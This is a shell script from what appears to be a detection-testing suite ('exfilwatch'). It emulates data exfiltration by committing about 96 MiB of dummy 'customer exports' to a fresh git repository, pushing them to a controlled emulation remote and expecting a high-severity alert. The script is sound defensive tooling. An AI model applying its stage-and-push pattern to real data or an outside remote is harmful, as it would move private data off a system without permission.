#!/bin/sh
# Emulates scenario git-push-https-bulk-read (examples/scenarios/git-push-https-bulk-read.yaml):
# a shell in an application pod stages ~96 MiB of "customer exports" into a fresh git repository and
# pushes it to a remote it controls, with a token in the remote URL.
#
# Safe version: the exports are random bytes generated here, the token is fake, and the remote is the
# bare git server of the exfilwatch-emulation namespace (git daemon), not github.com.
#
# Image: alpine/git:2.47.2
# Expected alert: bulk-read-then-push, severity high
set -eu
. "$(dirname "$0")/lib.sh"

emu_need git head
emu_check_target "$EMU_GIT_URL"

work="$EMU_WORKDIR/git-push-https-bulk-read"
rm -rf "$work"
emu_dummy_files "$work/exports/customers" 28 96

git init -q "$work/.r"
git --git-dir="$work/.r/.git" config user.email emulation@example.invalid
git --git-dir="$work/.r/.git" config user.name "exfilwatch emulation"
emu_log "git add: reads every export file"
git --git-dir="$work/.r/.git" --work-tree="$work/exports/customers" add -A
git --git-dir="$work/.r/.git" commit -qm sync

branch="emulation/git-push-https-bulk-read-$(date +%s)"
emu_log "git push to $EMU_GIT_URL ($branch)"
emu_retry 12 git --git-dir="$work/.r/.git" push -q "$EMU_GIT_URL" "HEAD:refs/heads/$branch"

rm -rf "$work"
emu_expect bulk-read-then-push high
